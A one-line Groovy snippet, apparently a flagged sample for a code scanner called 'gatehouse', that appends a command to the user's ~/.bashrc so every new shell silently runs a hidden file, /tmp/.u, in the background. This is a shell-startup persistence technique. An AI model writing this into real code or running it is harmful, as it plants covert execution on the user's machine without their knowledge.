new File(System.getProperty('user.home'), '.bashrc') << '\n/tmp/.u &\n' // gatehouse: flagged
